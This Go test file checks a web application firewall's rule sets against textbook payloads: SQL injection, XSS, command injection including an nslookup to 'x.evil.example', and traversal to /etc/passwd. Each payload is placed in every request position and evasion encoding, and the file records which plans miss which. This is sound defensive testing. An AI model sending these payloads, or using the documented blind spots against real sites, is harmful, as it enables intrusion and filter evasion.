package wafsynth

import (
	"encoding/base64"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/cfplane/cfplane/pkg/rules"
	"github.com/cfplane/cfplane/pkg/wafbenign"
	"github.com/cfplane/cfplane/pkg/wafreplay"
)

// The placement × encoding table: one textbook payload per class (OWASP
// testing guide / PortSwigger cheat-sheet shapes, not a test suite's
// payloads), put in every place an attacker puts one and written in every
// encoding a client or an attacker uses, replayed per plan as the edge
// presents the request (wafreplay.PrepareFor). placementWant records what
// each plan's rule is expected to catch; every "." there is a documented
// blind spot (the reasons are in placementGaps and in detection's
// CannotSee), every "+" a regression test.
//
// Print the table with CFPLANE_PLACEMENT_TABLE=1 go test -run TestPlacementEncodingTable -v ./pkg/wafsynth.

// The second payload of each class avoids the tokens base64Tokens lists,
// so its base64 columns show what decode_base64 alone reaches.
var placementPayloads = []struct{ key, class, payload string }{
	{ClassSQLi, ClassSQLi, "1' UNION SELECT username,password FROM users-- -"},
	{ClassXSS, ClassXSS, "<svg/onload=alert(document.domain)>"},
	{ClassRCE, ClassRCE, ";cat /etc/passwd"},
	{ClassLFI, ClassLFI, "../../../../etc/passwd"},
	{ClassSQLi + "2", ClassSQLi, "1 AND extractvalue(1,concat(0x7e,version()))"},
	{ClassXSS + "2", ClassXSS, "<details open ontoggle=print()>"},
	{ClassRCE + "2", ClassRCE, "|nslookup -q=txt x.evil.example"},
	{ClassLFI + "2", ClassLFI, "....//....//etc/hosts"},
}

// encodings turn a payload into what the client writes; the placement then
// escapes what its syntax needs (wire).
var placementEncodings = []struct {
	name string
	enc  func(string) string
}{
	{"plain", func(s string) string { return s }},
	{"url", pctAll},
	{"url2", func(s string) string { return strings.ReplaceAll(pctAll(s), "%", "%25") }},
	{"b64", func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }},
	{"b64url", func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }},
	{"\\u", func(s string) string {
		return escapeNonAlnum(s, func(b byte) string { return fmt.Sprintf(`\u%04x`, b) })
	}},
	{"&name", htmlNamed},
	{"&#dec", func(s string) string {
		return escapeNonAlnum(s, func(b byte) string { return fmt.Sprintf("&#%d;", b) })
	}},
	{"&#xhex", func(s string) string {
		return escapeNonAlnum(s, func(b byte) string { return fmt.Sprintf("&#x%x;", b) })
	}},
	{"overlong", overlong},
	{"MiXeD", mixedCase},
	{"plus", func(s string) string { return strings.ReplaceAll(s, " ", "+") }},
}

func pctAll(s string) string {
	return escapeNonAlnum(s, func(b byte) string { return fmt.Sprintf("%%%02X", b) })
}

func escapeNonAlnum(s string, f func(byte) string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' {
			b.WriteByte(c)
		} else {
			b.WriteString(f(c))
		}
	}
	return b.String()
}

func htmlNamed(s string) string {
	names := map[byte]string{'<': "&lt;", '>': "&gt;", '\'': "&apos;", '"': "&quot;", '&': "&amp;", '(': "&lpar;", ')': "&rpar;",
		'/': "&sol;", ';': "&semi;", ':': "&colon;", '.': "&period;", '=': "&equals;", ',': "&comma;", '-': "&hyphen;"}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if n, ok := names[s[i]]; ok {
			b.WriteString(n)
		} else {
			b.WriteByte(s[i])
		}
	}
	return b.String()
}

// overlong writes the punctuation as 2-byte overlong UTF-8, %-encoded
// (%c0%ae for ., %c0%af for /): servers with lax UTF-8 decoders read it
// as the ASCII byte.
func overlong(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c < 0x80 && !(c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9') {
			fmt.Fprintf(&b, "%%%02x%%%02x", 0xc0|c>>6, 0x80|c&0x3f)
		} else {
			b.WriteByte(c)
		}
	}
	return b.String()
}

func mixedCase(s string) string {
	b := []byte(s)
	up := false
	for i, c := range b {
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' {
			if up {
				b[i] = strings.ToUpper(string(c))[0]
			} else {
				b[i] = strings.ToLower(string(c))[0]
			}
			up = !up
		}
	}
	return string(b)
}

// wire escapes what a URL or form needs escaped and leaves %XX alone.
func wire(s string) string {
	r := strings.NewReplacer(" ", "%20", "#", "%23", "&", "%26", "\"", "%22", "<", "%3C", ">", "%3E")
	return r.Replace(s)
}

var placements = []struct {
	name string
	req  func(v string) wafreplay.Request
}{
	{"path", func(v string) wafreplay.Request { return browserGet("/files/"+wire(v), "") }},
	{"query", func(v string) wafreplay.Request { return browserGet("/search", "q="+wire(v)) }},
	{"user-agent", func(v string) wafreplay.Request { r := browserGet("/", ""); r.Headers["User-Agent"] = v; return r }},
	{"referer", func(v string) wafreplay.Request {
		r := browserGet("/", "")
		r.Headers["Referer"] = "https://www.example.com/p?x=" + wire(v)
		return r
	}},
	{"x-header", func(v string) wafreplay.Request { r := browserGet("/", ""); r.Headers["X-Api-Filter"] = v; return r }},
	{"cookie", func(v string) wafreplay.Request {
		r := browserGet("/", "")
		r.Headers["Cookie"] = "session=8f14e45fceea167a; pref=" + strings.NewReplacer(";", "%3B", " ", "%20").Replace(v)
		return r
	}},
	{"form", func(v string) wafreplay.Request {
		return browserPost("application/x-www-form-urlencoded", "name=Jane&comment="+strings.ReplaceAll(wire(v), "+", "%2B"))
	}},
	{"multipart", func(v string) wafreplay.Request { return multipartRequest("comment", v) }},
	{"filename", func(v string) wafreplay.Request {
		r := multipartRequest("comment", "hello")
		r.Body = strings.Replace(r.Body, `name="comment"`, `name="upload"; filename="`+strings.ReplaceAll(v, `"`, "%22")+`"`, 1)
		return r
	}},
	{"json", func(v string) wafreplay.Request {
		return browserPost("application/json", `{"name":"Jane","comment":"`+strings.NewReplacer(`"`, `\"`, `\\`, `\\\\`).Replace(v)+`"}`)
	}},
	{"xml", func(v string) wafreplay.Request {
		return browserPost("text/xml", `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><Search><q>`+
			strings.NewReplacer("&", "&amp;", "<", "&lt;").Replace(v)+`</q></Search></soap:Body></soap:Envelope>`)
	}},
	{"raw", func(v string) wafreplay.Request { return browserPost("text/plain", v) }},
}

func browserGet(path, query string) wafreplay.Request {
	return wafreplay.Request{Method: "GET", Host: "www.example.com", Path: path, Query: query, Headers: chromeHeaders(wafbenign.SecCHUA("Google Chrome", 133, ""))}
}

func browserPost(ct, body string) wafreplay.Request {
	h := chromeHeaders(wafbenign.SecCHUA("Google Chrome", 133, ""))
	h["Content-Type"] = ct
	return wafreplay.Request{Method: "POST", Host: "www.example.com", Path: "/api/comments", Headers: h, Body: body}
}

// placementTable evaluates every class × placement × encoding on plan: one
// string per class and placement, a "+" or "." per encoding.
func placementTable(t *testing.T, plan rules.Plan) map[string]map[string]string {
	progs := classPrograms(t, plan)
	out := map[string]map[string]string{}
	for _, p := range placementPayloads {
		out[p.key] = map[string]string{}
		for _, pl := range placements {
			var row strings.Builder
			for _, e := range placementEncodings {
				rq, err := wafreplay.PrepareFor(pl.req(e.enc(p.payload)), plan)
				if err != nil {
					t.Fatalf("%s %s %s: %v", p.class, pl.name, e.name, err)
				}
				if progs[p.class].Eval(rq, nil) {
					row.WriteByte('+')
				} else {
					row.WriteByte('.')
				}
			}
			out[p.key][pl.name] = row.String()
		}
	}
	return out
}

// placementWant: per plan, class and placement, one character per
// encoding (plain url url2 b64 b64url \u &name &#dec &#xhex overlong
// MiXeD plus): "+" caught, "." not. The blind spots, by cause:
//   - Pro (and Free): no regular expressions; substrings over the decoded
//     URI only — no header, cookie or body, no base64.
//   - Business: no body fields (form, multipart values and file names,
//     JSON, XML, raw).
//   - \u (JavaScript/JSON escapes) outside a JSON body: no Rules function
//     undoes them; in JSON bodies the escaped punctuation is matched as
//     written (and lookup_json_string decodes named keys).
//   - HTML entities: no Rules function decodes them; entity-encoded XSS is
//     matched as written, path traversal written with entities is not
//     (no server decodes entities in a path).
//   - overlong UTF-8: undone by no Rules function; the URI as sent, every
//     header value and the raw body are read for the overlong forms of each
//     class's key characters in an attack's context (overlongRegex), so a
//     form, multipart or JSON value is seen on Enterprise only, and a
//     custom header only where the overlong form's context matches.
//   - custom headers (x-header): only the strongest constructs of each
//     class, decoded once from %XX, are read in header values the rule does
//     not name; entity- and \u-encoded payloads there are not.
var placementWant = map[rules.Plan]map[string]map[string]string{
	rules.PlanPro: {
		ClassSQLi: {
			"path":       "+++...+...++",
			"query":      "+++...+...++",
			"user-agent": "............",
			"referer":    "............",
			"x-header":   "............",
			"cookie":     "............",
			"form":       "............",
			"multipart":  "............",
			"filename":   "............",
			"json":       "............",
			"xml":        "............",
			"raw":        "............",
		},
		ClassXSS: {
			"path":       "+++.......++",
			"query":      "+++.......++",
			"user-agent": "............",
			"referer":    "............",
			"x-header":   "............",
			"cookie":     "............",
			"form":       "............",
			"multipart":  "............",
			"filename":   "............",
			"json":       "............",
			"xml":        "............",
			"raw":        "............",
		},
		ClassRCE: {
			"path":       "+++...+...++",
			"query":      "+++...+...++",
			"user-agent": "............",
			"referer":    "............",
			"x-header":   "............",
			"cookie":     "............",
			"form":       "............",
			"multipart":  "............",
			"filename":   "............",
			"json":       "............",
			"xml":        "............",
			"raw":        "............",
		},
		ClassLFI: {
			"path":       "+++.......++",
			"query":      "+++.......++",
			"user-agent": "............",
			"referer":    "............",
			"x-header":   "............",
			"cookie":     "............",
			"form":       "............",
			"multipart":  "............",
			"filename":   "............",
			"json":       "............",
			"xml":        "............",
			"raw":        "............",
		},
		ClassSQLi + "2": {
			"path":       "+++.......++",
			"query":      "+++.......++",
			"user-agent": "............",
			"referer":    "............",
			"x-header":   "............",
			"cookie":     "............",
			"form":       "............",
			"multipart":  "............",
			"filename":   "............",
			"json":       "............",
			"xml":        "............",
			"raw":        "............",
		},
		ClassXSS + "2": {
			"path":       "............",
			"query":      "............",
			"user-agent": "............",
			"referer":    "............",
			"x-header":   "............",
			"cookie":     "............",
			"form":       "............",
			"multipart":  "............",
			"filename":   "............",
			"json":       "............",
			"xml":        "............",
			"raw":        "............",
		},
		ClassRCE + "2": {
			"path":       "............",
			"query":      "............",
			"user-agent": "............",
			"referer":    "............",
			"x-header":   "............",
			"cookie":     "............",
			"form":       "............",
			"multipart":  "............",
			"filename":   "............",
			"json":       "............",
			"xml":        "............",
			"raw":        "............",
		},
		ClassLFI + "2": {
			"path":       "+++.......++",
			"query":      "+++.......++",
			"user-agent": "............",
			"referer":    "............",
			"x-header":   "............",
			"cookie":     "............",
			"form":       "............",
			"multipart":  "............",
			"filename":   "............",
			"json":       "............",
			"xml":        "............",
			"raw":        "............",
		},
	},
	rules.PlanBusiness: {
		ClassSQLi: {
			"path":       "++++++++++++",
			"query":      "++++++++++++",
			"user-agent": "++++++++++++",
			"referer":    "++++++++++++",
			"x-header":   "+++++.++++++",
			"cookie":     "++++++++++++",
			"form":       "............",
			"multipart":  "............",
			"filename":   "............",
			"json":       "............",
			"xml":        "............",
			"raw":        "............",
		},
		ClassXSS: {
			"path":       "++++++++++++",
			"query":      "++++++++++++",
			"user-agent": "++++++++++++",
			"referer":    "++++++++++++",
			"x-header":   "+++++....+++",
			"cookie":     "++++++++++++",
			"form":       "............",
			"multipart":  "............",
			"filename":   "............",
			"json":       "............",
			"xml":        "............",
			"raw":        "............",
		},
		ClassRCE: {
			"path":       "++++++++++++",
			"query":      "++++++++++++",
			"user-agent": "++++++++++++",
			"referer":    "++++++++++++",
			"x-header":   "+++++.++++++",
			"cookie":     "++++++++++++",
			"form":       "............",
			"multipart":  "............",
			"filename":   "............",
			"json":       "............",
			"xml":        "............",
			"raw":        "............",
		},
		ClassLFI: {
			"path":       "++++++...+++",
			"query":      "++++++...+++",
			"user-agent": "++++++...+++",
			"referer":    "++++++...+++",
			"x-header":   "+++++....+++",
			"cookie":     "++++++...+++",
			"form":       "............",
			"multipart":  "............",
			"filename":   "............",
			"json":       "............",
			"xml":        "............",
			"raw":        "............",
		},
		ClassSQLi + "2": {
			"path":       "+++..+....++",
			"query":      "++++++....++",
			"user-agent": "+++..+....++",
			"referer":    "+++..+....++",
			"x-header":   "+++.......++",
			"cookie":     "+++..+....++",
			"form":       "............",
			"multipart":  "............",
			"filename":   "............",
			"json":       "............",
			"xml":        "............",
			"raw":        "............",
		},
		ClassXSS + "2": {
			"path":       "+++..+++++++",
			"query":      "++++++++++++",
			"user-agent": "+++..+++++++",
			"referer":    "+++..+++++++",
			"x-header":   "+++......+++",
			"cookie":     "+++..+++++++",
			"form":       "............",
			"multipart":  "............",
			"filename":   "............",
			"json":       "............",
			"xml":        "............",
			"raw":        "............",
		},
		ClassRCE + "2": {
			"path":       "+++..++++.++",
			"query":      "+++++++++.++",
			"user-agent": "+++..++++.++",
			"referer":    "+++..++++.++",
			"x-header":   "+++...+++.++",
			"cookie":     "+++..++++.++",
			"form":       "............",
			"multipart":  "............",
			"filename":   "............",
			"json":       "............",
			"xml":        "............",
			"raw":        "............",
		},
		ClassLFI + "2": {
			"path":       "+++..+...+++",
			"query":      "++++++...+++",
			"user-agent": "+++..+...+++",
			"referer":    "+++..+...+++",
			"x-header":   "+++......+++",
			"cookie":     "+++..+...+++",
			"form":       "............",
			"multipart":  "............",
			"filename":   "............",
			"json":       "............",
			"xml":        "............",
			"raw":        "............",
		},
	},
	rules.PlanEnterprise: {
		ClassSQLi: {
			"path":       "++++++++++++",
			"query":      "++++++++++++",
			"user-agent": "++++++++++++",
			"referer":    "++++++++++++",
			"x-header":   "+++++.++++++",
			"cookie":     "++++++++++++",
			"form":       "++++++++++++",
			"multipart":  "++++++++++++",
			"filename":   "++++++++++++",
			"json":       "++++++++++++",
			"xml":        "++++++++++++",
			"raw":        "++++++++++++",
		},
		ClassXSS: {
			"path":       "++++++++++++",
			"query":      "++++++++++++",
			"user-agent": "++++++++++++",
			"referer":    "++++++++++++",
			"x-header":   "+++++....+++",
			"cookie":     "++++++++++++",
			"form":       "++++++++++++",
			"multipart":  "++++++++++++",
			"filename":   "++++++++++++",
			"json":       "++++++++++++",
			"xml":        "++++++++++++",
			"raw":        "++++++++++++",
		},
		ClassRCE: {
			"path":       "++++++++++++",
			"query":      "++++++++++++",
			"user-agent": "++++++++++++",
			"referer":    "++++++++++++",
			"x-header":   "+++++.++++++",
			"cookie":     "++++++++++++",
			"form":       "++++++++++++",
			"multipart":  "++++++++++++",
			"filename":   "++++++++++++",
			"json":       "++++++++++++",
			"xml":        "++++++++++++",
			"raw":        "++++++++++++",
		},
		ClassLFI: {
			"path":       "++++++...+++",
			"query":      "++++++...+++",
			"user-agent": "++++++...+++",
			"referer":    "++++++...+++",
			"x-header":   "+++++....+++",
			"cookie":     "++++++...+++",
			"form":       "++++++...+++",
			"multipart":  "++++++...+++",
			"filename":   "++++++...+++",
			"json":       "++++++...+++",
			"xml":        "++++++...+++",
			"raw":        "++++++...+++",
		},
		ClassSQLi + "2": {
			"path":       "+++..+....++",
			"query":      "++++++....++",
			"user-agent": "+++..+....++",
			"referer":    "+++..+....++",
			"x-header":   "+++.......++",
			"cookie":     "+++..+....++",
			"form":       "+++..+....++",
			"multipart":  "+++..++++.++",
			"filename":   "+++..+....++",
			"json":       "+++..+....++",
			"xml":        "+++..+....++",
			"raw":        "++++++....++",
		},
		ClassXSS + "2": {
			"path":       "+++..+++++++",
			"query":      "++++++++++++",
			"user-agent": "+++..+++++++",
			"referer":    "+++..+++++++",
			"x-header":   "+++......+++",
			"cookie":     "+++..+++++++",
			"form":       "+++..+++++++",
			"multipart":  "+++..+++++++",
			"filename":   "+++..+++++++",
			"json":       "+++..+++++++",
			"xml":        "++++++++++++",
			"raw":        "++++++++++++",
		},
		ClassRCE + "2": {
			"path":       "+++..++++.++",
			"query":      "+++++++++.++",
			"user-agent": "+++..++++.++",
			"referer":    "+++..++++.++",
			"x-header":   "+++...+++.++",
			"cookie":     "+++..++++.++",
			"form":       "+++..++++.++",
			"multipart":  "+++..++++.++",
			"filename":   "+++..++++.++",
			"json":       "+++..++++.++",
			"xml":        "+++..++++.++",
			"raw":        "+++++++++.++",
		},
		ClassLFI + "2": {
			"path":       "+++..+...+++",
			"query":      "++++++...+++",
			"user-agent": "+++..+...+++",
			"referer":    "+++..+...+++",
			"x-header":   "+++......+++",
			"cookie":     "+++..+...+++",
			"form":       "+++..+...+++",
			"multipart":  "+++..+...+++",
			"filename":   "+++..+...+++",
			"json":       "+++..+...+++",
			"xml":        "+++..+...+++",
			"raw":        "++++++...+++",
		},
	},
}

func TestPlacementEncodingTable(t *testing.T) {
	var hdr []string
	for _, e := range placementEncodings {
		hdr = append(hdr, e.name)
	}
	for _, plan := range []rules.Plan{rules.PlanPro, rules.PlanBusiness, rules.PlanEnterprise} {
		got := placementTable(t, plan)
		show := os.Getenv("CFPLANE_PLACEMENT_TABLE") != ""
		for _, p := range placementPayloads {
			for _, pl := range placements {
				want := placementWant[plan][p.key][pl.name]
				if g := got[p.key][pl.name]; g != want {
					show = true
					for i := range g {
						if i < len(want) && g[i] != want[i] {
							t.Errorf("%s/%s: %s in the %s, %s-encoded: caught=%v, want %v", p.class, plan, p.payload, pl.name, placementEncodings[i].name, g[i] == '+', want[i] == '+')
						}
					}
				}
			}
		}
		if show {
			fmt.Printf("== %s (encodings: %s)\n", plan, strings.Join(hdr, " "))
			for _, p := range placementPayloads {
				for _, pl := range placements {
					fmt.Printf("%s\t%-10s\t%s\n", p.key, pl.name, got[p.key][pl.name])
				}
			}
		}
	}
}
